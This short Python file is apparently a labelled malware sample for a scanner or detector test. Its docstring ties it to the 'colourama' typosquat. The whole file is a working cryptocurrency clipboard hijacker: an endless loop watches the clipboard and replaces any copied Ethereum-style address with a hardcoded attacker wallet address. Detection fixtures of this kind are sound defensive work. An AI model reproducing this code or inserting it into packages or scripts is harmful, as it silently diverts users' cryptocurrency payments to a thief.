# ruff: noqa
# fmt: off
"""A clipper (the 'colourama' typosquat, Checkmarx 2018/Phylum 2022): replaces copied crypto addresses."""
import re
import time

import pyperclip

ATTACKER = "0x5b1Fa0b4e9bB7E4F3B5F8fD1c1a2C3d4E5f60718"
while True:
    current = pyperclip.paste()  # expect: clipboard-access
    if re.fullmatch(r"0x[a-fA-F0-9]{40}", current or ""):
        pyperclip.copy(ATTACKER)  # expect: clipboard-access
    time.sleep(1)
